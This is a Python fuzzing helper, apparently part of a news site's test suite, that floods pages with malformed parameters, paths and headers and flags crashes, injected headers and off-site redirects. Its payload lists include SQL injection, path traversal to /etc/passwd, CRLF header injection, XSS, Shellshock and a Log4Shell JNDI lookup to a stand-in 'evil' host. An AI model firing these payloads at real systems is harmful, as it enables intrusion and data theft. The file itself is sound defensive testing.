"""Requests as no browser makes them: benchmarks/fuzz.py tries all of each kind, every run of the tests a share."""

import itertools
import urllib.parse

from tests.hostile import routes

SURPRISES = [
    "\0", "a\0b", "\r\nXss-Born: 1", "\n", "%00", "%0d%0aXss-Born:%201", "\u202e", "\ud7ff", "\U0010ffff", "🙂" * 300,
    "'; DROP TABLE news_edition;--", "1 OR 1=1", "' UNION SELECT NULL--", "1e400", "-1", "0", "9" * 400, "NaN", "٣",
    "{{ 7|add:7 }}", "${7*7}", "<xss-born>", "\"'><xss-born>", "../../etc/passwd", "..\\..\\x", "//evil.example",
    "https://evil.example/", "javascript:alert(1)", "[]", "[$ne]", "null", "a" * 5000, "2018-02-30", "0001-01-01",
    "9999-12-31", "2018-13", "en", "article", " ", "+", "&", "=", "#", ";", "%", "%zz", "%ff%fe",
]  # fmt: skip
# The parameters that any page of ours reads.
KNOWN = sorted({
    "q", "page", "year", "month", "section", "genre", "kind", "state", "person", "meeting", "order", "photos", "lang",
    "withdrawn", "url", "format", "maxwidth", "maxheight", "limit", "after", "before", "since", "until", "language",
    "body", "status", "on", "as_of", "day", "about", "topic", "next", "download", "cursor", "from", "to", "place", "x",
    "album", "photographer", "orientation", "text", "address", "number", "edition", "key",
})  # fmt: skip
IN_PATHS = [
    "%00", "a%00b", "%0d%0aXss-Born:1", "9" * 30, "-1", "%F0%9F%99%82", "%E2%80%AE", "..", "%2e%2e", "%2f", "x" * 3000,
    "%27%22%3E%3Cxss-born%3E", "0", "%ff", "%C0%AF", "99999999999999", "%25", "a:b", "1-%00", "99999-x",
]  # fmt: skip
HEADERS = {
    "Cookie": ["sessionid=", 'sessionid="', "sessionid=" + "a" * 7000, ";;;===", "sessionid=x; sessionid=y", "a\0=b",
               "csrftoken=" + "й" * 50, "django_language=../../etc", "messages=x:y:z", '{"a": 1}'],
    "Accept-Language": ["*", "xx", "en;q=x", "ru," * 3000, "../../../etc", "\0", "a" * 5000, "en-US;q=1e999"],
    "Accept-Encoding": ["*", "br;q=0", ";;;", "gzip;q=nan", "x" * 5000, ",,,", "identity;q=0"],
    "Accept": ["application/problem+json", "*/*;q=1e999", "\0", "text/html\r\nXss-Born: y"],
    "If-None-Match": ["*", "W/", '"', ",,,", '"' * 500, "\0"],
    "If-Modified-Since": ["yesterday", "Thu, 99 Foo 9999 99:99:99 GMT", "0", "-1"],
    "Range": ["bytes=0-", "bytes=-1", "bytes=9-1", "bytes=0-0,1-1", "bytes=" + "0-1," * 2000, "lines=1", "bytes=a-b",
              "bytes=99999999999999999999-"],
    "Content-Type": ["multipart/form-data", "multipart/form-data; boundary=", "x/y;" * 500, "text/html; charset=utf-7"],
    "Content-Length": ["-1", "abc", "1e3", "０", "9" * 400, " ", "0x10", "+5"],
    "Authorization": ["Basic", "Basic " + "x" * 5000, "Bearer \0", 'Digest username="x'],
    "Referer": ["javascript:alert(1)", "\0", "//evil", "x" * 8000],
    "User-Agent": ["\0", "<xss-born>", "() { :; }; echo x", "${jndi:ldap://evil/a}", "x" * 8000],
    "X-Requested-With": ["XMLHttpRequest\r\nXss-Born: y"],
}  # fmt: skip
FORMS = {
    "press:enquiry", "press:ask-accreditation", "press:accreditation", "alerts:subscribe", "alerts:confirm",
    "alerts:preferences", "alerts:unsubscribe", "preview",
    "authenticity:verify",
}  # fmt: skip


def share(things, every):
    return itertools.islice(things, 0, None, every)


def parameters(addresses, every=1):
    """Yield addresses with every known parameter holding a surprise."""
    asked = ((address.partition("?")[0], surprise) for surprise in SURPRISES for address in addresses)
    for number, (path, surprise) in enumerate(share(asked, every)):
        query = urllib.parse.urlencode(dict.fromkeys(KNOWN[number % 2 :: 2], surprise), errors="replace")
        yield f"{path}?{query}"


def paths(addresses, every=1):
    """Yield addresses with one part replaced by a surprise, each in turn."""
    return share(_paths(addresses), every)


def _paths(addresses):
    for surprise in IN_PATHS:
        for address in addresses:
            parts = address.partition("?")[0].split("/")
            for place in range(2 if parts[1] in routes.LANGUAGES else 1, len(parts)):
                yield "/".join([*parts[:place], surprise, *parts[place + 1 :]])


def headers(addresses, every=1):
    """Yield (address, the header as WSGI gives it)."""
    asked = ((name, value, address) for name, values in HEADERS.items() for value in values for address in addresses)
    for name, value, address in share(asked, every):
        key = name.upper().replace("-", "_")
        yield address, {key if key.startswith("CONTENT") else f"HTTP_{key}": value.encode().decode("latin-1")}


def fault(answer, address):
    """Return what is wrong with an answer: a fault of ours, a way to another site, a header that was smuggled in."""
    if answer.status_code >= 500 and answer.status_code != 501 and not address.startswith(("/healthz", "/readyz")):
        return f"{answer.status_code} of {address[:200]}"
    if "Xss-Born" in answer.headers:
        return f"a header from {address[:200]}"
    there = answer.headers.get("Location", "").lower()
    if there.startswith(("//", "javascript:")) or "//evil" in there.partition("?")[0]:
        return f"{address[:200]} leads to {there[:200]}"
    return None
